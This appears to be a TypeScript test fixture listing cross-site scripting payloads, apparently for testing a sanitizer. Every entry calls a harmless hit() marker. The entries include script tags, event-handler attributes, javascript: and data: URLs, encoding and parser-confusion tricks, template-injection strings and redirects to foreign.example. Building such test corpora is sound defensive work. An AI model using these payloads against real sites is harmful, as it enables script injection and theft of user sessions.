/** Texts of cross-site scripting: each runs `hit()` where it is taken for markup, an address, code or a template. */

const inMarkup = `
<script>hit()</script>
<ScRiPt>hit()</sCrIpT>
<script src=https://foreign.example/x.js></script>
<script src=//foreign.example/x.js></script>
<script/x>hit()</script>
<script >hit()</script >
<script type=module>hit()</script>
<script>hit()//
<scr<script>ipt>hit()</scr</script>ipt>
<<script>hit();//<</script>
<script>/*<!--*/hit()</script>
<img src=x onerror=hit()>
<img src=x onerror="hit()">
<img src=x onerror='hit()'>
<img src=x:x onerror=hit()>
<img/src=x/onerror=hit()>
<IMG SRC=x OnErRoR=hit()>
<img src=x onerror=&#104;&#105;&#116;()>
<img src=x onerror=\\u0068it()>
<img src="x\`\`onerror=hit()">
<img src='x'onerror='hit()'
<img src onerror=hit()>
<img srcset=x onerror=hit()>
<image src=x onerror=hit()>
<svg onload=hit()>
<svg/onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href=data:,hit() />
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set onbegin=hit() attributeName=x>
<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='hit()'/>#x">
<svg><style><img src=x onerror=hit()></style>
<math><mtext><img src=x onerror=hit()></mtext></math>
<math href="javascript:hit()">x</math>
<math><mglyph><style><img src=x onerror=hit()></style></mglyph></math>
<iframe src=javascript:hit()></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe onload=hit()></iframe>
<iframe src=data:text/html,<script>parent.hit()</script>>
<object data=javascript:hit()></object>
<object data="data:text/html,<script>hit()</script>">
<embed src=javascript:hit()>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>">
<body onload=hit()>
<body onpageshow=hit()>
<body onhashchange=hit()>
<input autofocus onfocus=hit()>
<select autofocus onfocus=hit()>
<textarea autofocus onfocus=hit()>
<button popovertarget=x onclick=hit()>x</button><div popover id=x onbeforetoggle=hit()>
<details open ontoggle=hit()><summary>x</summary></details>
<video src=x onerror=hit()>
<video><source onerror=hit()></video>
<video poster=javascript:hit()></video>
<audio src=x onerror=hit()>
<marquee onstart=hit()>x</marquee>
<link rel=stylesheet href=javascript:hit()>
<link rel=preload as=script href=https://foreign.example/ onerror=hit()>
<link rel=import href=https://foreign.example/>
<meta http-equiv=refresh content="0;url=javascript:hit()">
<meta http-equiv=refresh content="0;url=https://foreign.example/">
<base href=https://foreign.example/>
<base href=javascript:/x/><a href="-hit()">x</a>
<form action=javascript:hit()><button>x</button></form>
<form><button formaction=javascript:hit()>x</button></form>
<form id=x></form><button form=x formaction=javascript:hit()>x</button>
<form><input name=attributes><input name=innerHTML>
<style>@import 'https://foreign.example/';</style>
<style>*{background:url(javascript:hit())}</style>
<style onload=hit()></style>
<p style="background:url(https://foreign.example/)">x</p>
<p style=animation-name:x onanimationstart=hit()>x</p>
<p tabindex=1 onfocus=hit() autofocus>x</p>
<a href=javascript:hit()>x</a>
<a href="java&#9;script:hit()">x</a>
<a href="&#1;javascript:hit()">x</a>
<a href=JaVaScRiPt:hit()>x</a>
<a href="javascript&colon;hit()">x</a>
<a href=https://foreign.example/ ping=https://foreign.example/>x</a>
<a id=reportStopped></a><a id=reportStopped name=x>x</a>
<noscript><p title="</noscript><img src=x onerror=hit()>">
<template><img src=x onerror=hit()></template>
<template shadowrootmode=open><script>hit()</script></template>
<x onclick=hit()>x</x>
<x contenteditable onblur=hit()>x</x>
<!--><img src=x onerror=hit()>-->
<!--<img src="--><img src=x onerror=hit()//">
<![CDATA[<img src=x onerror=hit()>]]>
<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="hit()"/>
</title><script>hit()</script>
</textarea><script>hit()</script>
</script><script>hit()</script>
</style><script>hit()</script>
</code></dd></dl><img src=x onerror=hit()>
&lt;img src=x onerror=hit()&gt;
&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;
%3Cscript%3Ehit()%3C/script%3E
%253Cimg%2520src%253Dx%2520onerror%253Dhit()%253E
\\x3Cscript\\x3Ehit()\\x3C/script\\x3E
\\u003cimg src=x onerror=hit()\\u003e
＜script＞hit()＜/script＞
‹img src=x onerror=hit()›
`;

const elsewhere = `
" onmouseover="hit()
" autofocus onfocus=hit() x="
' onmouseover='hit()
\` onmouseover=hit()
"><img src=x onerror=hit()>
'><img src=x onerror=hit()>
--><img src=x onerror=hit()>
]]><img src=x onerror=hit()>
javascript:hit()
JaVaScRiPt:hit()
 javascript:hit()
javascript://docs.wando.app/%0Ahit()
javascript://%0Ahit()
data:text/html,<script>hit()</script>
data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==
vbscript:hit()
blob:https://foreign.example/x
view-source:https://foreign.example/
//foreign.example/
\\\\foreign.example\\x
https:foreign.example
https://docs.wando.app@foreign.example/
https://docs.wando.app.foreign.example/
https://foreign.example\\@docs.wando.app/
";hit();//
';hit();//
\`;hit();//
\${hit()}
{{hit()}}
{{constructor.constructor('hit()')()}}
<%= hit() %>
#{hit()}
[x](javascript:hit())
![x](x"onerror="hit())
[x]: javascript:hit()
<javascript:hit()>
+hit()+
x'-hit()-'x
*/hit()/*
__proto__
constructor
url(javascript:hit())
expression(hit())
`;

export const hostileTexts: readonly string[] = `${inMarkup}${elsewhere}`
  .split('\n')
  .filter((text) => text !== '');
